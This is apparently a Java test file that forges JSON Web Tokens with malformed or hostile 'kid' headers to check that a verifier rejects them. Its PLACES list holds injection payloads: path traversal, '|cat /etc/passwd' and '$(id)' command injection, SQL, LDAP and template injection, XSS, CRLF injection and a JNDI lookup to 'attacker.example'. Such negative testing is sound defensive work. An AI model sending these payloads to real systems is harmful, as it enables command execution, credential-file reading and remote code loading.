package io.jotgate.testing.forgery;

import static io.jotgate.testing.forgery.Kind.forged;

import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Locale;

/** Tokens whose kid leads to no key, to another key, or somewhere that a kid has no business in. */
final class KidForgeries {
  private static final List<String> PLACES =
      List.of(
          "../../../../dev/null",
          "/dev/null",
          "/proc/sys/kernel/randomize_va_space",
          "file:///dev/null",
          "C:\\Windows\\win.ini",
          "|cat /etc/passwd",
          "$(id)",
          "`id`",
          "' UNION SELECT 'key' -- ",
          "\" OR \"\"=\"",
          "*)(uid=*))(|(uid=*",
          "{{7*7}}",
          "${jndi:ldap://attacker.example/a}",
          "<script>alert(1)</script>",
          "__proto__",
          "constructor",
          "%00",
          "a\r\nX-Injected: yes",
          "\u0000",
          "",
          " ",
          "null",
          "0");

  private KidForgeries() {}

  static List<Kind> kinds() {
    return List.of(
        forged("kid-missing", KidForgeries::missing),
        forged("kid-unknown", KidForgeries::unknown),
        forged("kid-of-a-place", KidForgeries::place),
        forged("kid-that-looks-alike", KidForgeries::lookAlike),
        forged("kid-of-no-name", KidForgeries::ofNoName),
        forged("kid-twice", KidForgeries::twice),
        forged("kid-of-another-trusted-key", KidForgeries::ofAnotherTrusted),
        forged("kid-of-a-stranger", KidForgeries::ofAStranger),
        forged("kid-not-utf-8", KidForgeries::notUtf8));
  }

  /** Even if only one key could be meant. */
  private static String missing(Workpiece work) {
    return work.withHeader(work.header().without("kid"));
  }

  private static String unknown(Workpiece work) {
    String kid = Base64Text.of(work.bytes(32));
    Members header = work.header().withText("kid", kid);
    TokenKey signer = work.pick(work.key, work.stranger());
    return signer.token(header.text(), work.claims().text().getBytes(StandardCharsets.UTF_8));
  }

  private static String place(Workpiece work) {
    String place = work.pick(PLACES);
    return work.withHeader(
        work.header()
            .withText("kid", work.chance.nextBoolean() ? place : work.key.kid() + place + "x"));
  }

  private static String lookAlike(Workpiece work) {
    String kid = work.key.kid();
    return work.withHeader(
        work.header()
            .withText(
                "kid",
                work.pick(
                    kid + " ",
                    " " + kid,
                    kid + "\u0000",
                    kid + "\n",
                    kid + "\u200b",
                    "\ufeff" + kid,
                    kid + "=",
                    kid.substring(1),
                    kid.substring(0, kid.length() - 1),
                    kid + kid,
                    (char) (kid.charAt(0) + 0xfee0) + kid.substring(1),
                    swappedCase(kid))));
  }

  private static String swappedCase(String kid) {
    String lower = kid.toLowerCase(Locale.ROOT);
    String changed = lower.equals(kid) ? kid.toUpperCase(Locale.ROOT) : lower;
    return changed.equals(kid) ? kid + "." : changed;
  }

  private static String ofNoName(Workpiece work) {
    String quoted = Members.quoted(work.key.kid());
    return work.withHeader(
        work.header()
            .with(
                "kid",
                work.pick("null", "true", "1", "[" + quoted + "]", "{\"kid\":" + quoted + "}")));
  }

  private static String twice(Workpiece work) {
    String header = work.header().text();
    String kid = Members.quoted(work.pick(work.key.kid(), "another"));
    String name = work.pick("kid", "\\u006bid", "k\\u0069d");
    return work.signed(
        work.chance.nextBoolean()
            ? "{\"" + name + "\":" + kid + "," + header.substring(1)
            : header.substring(0, header.length() - 1) + ",\"" + name + "\":" + kid + "}",
        work.claims().text());
  }

  private static String ofAnotherTrusted(Workpiece work) {
    TokenKey other = work.otherTrusted();
    return work.withHeader(
        work.header().withText("kid", other.equals(work.key) ? work.key.kid() + "2" : other.kid()));
  }

  /** A whole token of another issuer, good in its own right: its key, its kid, its alg. */
  private static String ofAStranger(Workpiece work) {
    TokenKey stranger = work.stranger(work.pick(Algorithm.values()));
    return stranger.token(
        work.header().withText("alg", stranger.alg()).withText("kid", stranger.kid()).text(),
        work.claims().text().getBytes(StandardCharsets.UTF_8));
  }

  /** Readers that put U+FFFD in its place let two kids become one. */
  private static String notUtf8(Workpiece work) {
    String header = work.header().withText("kid", work.key.kid() + "@").text();
    byte[] bytes = header.getBytes(StandardCharsets.ISO_8859_1);
    int at = header.indexOf('@');
    bytes[at] = work.pick((byte) 0x80, (byte) 0xc0, (byte) 0xe9, (byte) 0xed, (byte) 0xff);
    return work.key.signed(Base64Text.of(bytes) + "." + Base64Text.of(work.claims().text()));
  }
}
